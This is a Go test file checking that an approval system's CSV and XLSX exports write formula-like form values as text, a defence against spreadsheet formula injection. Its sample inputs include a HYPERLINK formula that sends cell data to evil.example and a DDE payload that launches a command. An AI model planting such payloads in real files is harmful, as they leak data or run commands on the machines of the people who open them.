package approval_test

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/xuri/excelize/v2"

	"tack/backend/approval"
	"tack/backend/server/servertest"
)

// Form values that a spreadsheet would run as formulas are exported as text
// (issue 12, item 6): in CSV with a leading apostrophe, in XLSX as string
// cells (never formulas).
func TestExportWritesFormulasAsText(t *testing.T) {
	servertest.Each(t, func(t *testing.T, e *servertest.Env) {
		c := setupCompany(t, e)
		tpl := mkTemplate(t, e, c, []approval.Node{node("a", approval.NodeApprover, approval.ApproverSpec{Kind: approval.ApproverDeptHead}, "")},
			func(in *approval.TemplateInput) {
				in.Fields = []approval.Field{{Key: "item", Type: approval.FieldText, LabelZh: "物品", Required: true}}
			})
		evil := []string{`=HYPERLINK("http://evil.example/?"&A1,"点此")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"}
		for _, v := range evil {
			submit(t, e, c.emp, tpl, map[string]any{"item": v}, nil)
		}
		r := e.Must(200, "GET", "/api/v1/approvals/export?format=csv&template_id="+tpl, c.admin, nil)
		rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(r.Body, []byte("\xEF\xBB\xBF")))).ReadAll()
		if err != nil || len(rows) != len(evil)+1 {
			t.Fatalf("csv %q %v", rows, err)
		}
		col := len(rows[0]) - 1
		if rows[0][col] != "物品" {
			t.Fatalf("header %q", rows[0])
		}
		got := map[string]bool{}
		for _, row := range rows[1:] {
			got[row[col]] = true
		}
		for _, v := range evil {
			if !got["'"+v] {
				t.Errorf("csv has no text cell for %q: %v", v, got)
			}
		}

		r = e.Must(200, "GET", "/api/v1/approvals/export?format=xlsx&template_id="+tpl, c.admin, nil)
		x, err := excelize.OpenReader(bytes.NewReader(r.Body))
		if err != nil {
			t.Fatal(err)
		}
		xrows, err := x.GetRows("审批")
		if err != nil || len(xrows) != len(evil)+1 {
			t.Fatalf("xlsx %q %v", xrows, err)
		}
		for i := 2; i <= len(xrows); i++ {
			cell, _ := excelize.CoordinatesToCellName(col+1, i)
			f, err := x.GetCellFormula("审批", cell)
			if err != nil || f != "" {
				t.Errorf("xlsx %s is a formula %q (%v)", cell, f, err)
			}
			if typ, _ := x.GetCellType("审批", cell); typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
				t.Errorf("xlsx %s has type %v, want a string", cell, typ)
			}
		}
	})
}
